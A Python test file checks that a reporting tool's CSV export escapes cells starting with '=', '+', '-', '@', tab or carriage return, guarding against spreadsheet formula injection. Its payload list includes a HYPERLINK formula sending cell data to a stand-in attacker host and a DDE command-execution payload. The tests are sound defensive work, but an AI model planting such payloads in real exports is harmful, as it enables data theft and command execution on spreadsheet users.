"""Reporting's CSV files open in a spreadsheet as text: a theme such as ``=HYPERLINK(...)`` is never a formula."""
from __future__ import annotations

import csv
import io

import pytest

from reporting.adapters.csv_export import to_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_figures_rows_never_start_a_cell_with_a_formula_prefix(attack):
    figure = {"rows": [{"theme": attack, "audits": 2, "change": -1}, {"theme": "neglect", "audits": 1, "change": 0}]}
    header, first, second = _cells(to_csv("learning-themes", figure))
    assert header == ["theme", "audits", "change"]
    assert first == ["'" + attack, "2", "-1"], "the text is kept as written behind an apostrophe; numbers stay numbers"
    assert second == ["neglect", "1", "0"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_measure_value_pairs_never_start_a_cell_with_a_formula_prefix(attack):
    figure = {"year": {"label": attack}, "themes": [attack, "neglect"], "learning": [{"theme": attack, "points": 3}]}
    rows = _cells(to_csv("annual", figure))
    assert rows[0] == ["measure", "value"]
    for measure, value in rows[1:]:
        assert not measure.startswith(("=", "+", "-", "@", "\t", "\r")), measure
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert ["year.label", "'" + attack] in rows
